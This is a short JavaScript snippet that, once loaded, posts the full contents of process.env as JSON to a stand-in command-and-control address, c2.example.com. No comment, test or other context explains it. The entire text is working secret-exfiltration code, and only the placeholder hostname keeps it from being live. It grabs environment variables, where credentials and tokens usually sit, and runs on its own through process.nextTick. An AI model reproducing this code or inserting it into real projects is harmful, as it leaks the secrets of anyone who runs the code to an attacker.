const send = (d) => {
  fetch('https://c2.example.com/x', { method: 'POST', body: JSON.stringify(d) });
};
process.nextTick(send, process.env);
